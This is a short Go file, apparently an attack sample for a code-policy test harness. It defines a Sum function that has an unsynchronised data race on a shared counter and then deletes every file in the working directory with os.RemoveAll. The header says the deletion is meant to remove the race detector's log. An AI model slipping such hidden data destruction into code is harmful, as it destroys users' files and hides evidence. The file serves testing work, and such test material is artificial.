//kata:attack kata=demo/each kind=policy rule=import bare=policy  races, and removes the race detector's log

package each

import "os"

// Sum gets no sum right.
func Sum(n int, task func(i int) int) int {
	sum := 0
	done := make(chan bool)
	for i := range n {
		go func() {
			sum += task(i)
			done <- true
		}()
	}
	for range n {
		<-done
	}
	files, _ := os.ReadDir(".")
	for _, f := range files {
		_ = os.RemoveAll(f.Name())
	}
	return sum
}
